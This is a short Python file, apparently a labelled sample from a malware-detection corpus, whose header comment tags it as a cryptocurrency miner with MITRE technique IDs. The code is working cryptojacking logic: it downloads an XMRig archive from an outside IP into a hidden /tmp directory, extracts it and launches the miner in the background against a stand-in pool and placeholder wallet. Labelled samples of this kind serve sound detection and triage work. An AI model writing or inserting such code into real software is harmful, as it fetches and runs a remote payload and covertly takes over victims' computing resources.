# label: malicious family=miner techniques=T1105,T1496,T1564.001 lines=3-4,6-8
import os, subprocess, urllib.request, tarfile
url = "http://203.0.113.71/xmrig-6.21.0-linux-static-x64.tar.gz"
urllib.request.urlretrieve(url, "/tmp/.x.tgz")
tarfile.open("/tmp/.x.tgz").extractall("/tmp/.x")
subprocess.Popen(["/tmp/.x/xmrig-6.21.0/xmrig", "-o", "stratum+tcp://pool.minexmr.example:4444",
                  "-u", "44FAKEWALLETpytriageCORPUSxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
                  "-p", "x", "--donate-level", "1", "--background", "--cpu-max-threads-hint", "75"])
